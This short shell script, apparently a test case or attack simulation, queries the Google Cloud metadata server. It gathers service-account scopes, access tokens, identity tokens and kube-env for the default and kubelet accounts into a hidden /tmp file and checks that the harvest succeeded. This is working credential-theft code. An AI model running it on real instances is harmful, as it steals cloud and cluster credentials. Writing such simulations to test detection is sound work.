#!/bin/sh
. /opt/case/case.sh

echo '169.254.169.254 metadata.google.internal' >>/etc/hosts
g() { curl -sf -H 'Metadata-Flavor: Google' "http://metadata.google.internal/computeMetadata/v1/$1"; }
g 'project/attributes/?recursive=true' >/dev/null; g instance/service-accounts/ >/dev/null
for a in default kubelet; do g "instance/service-accounts/$a/scopes" >>/tmp/.g; g "instance/service-accounts/$a/token" >>/tmp/.g; g "instance/service-accounts/$a/identity?audience=https://vault" >>/tmp/.g; done
g instance/attributes/kube-env >>/tmp/.g
test "$(wc -l </tmp/.g)" = 7
took_place
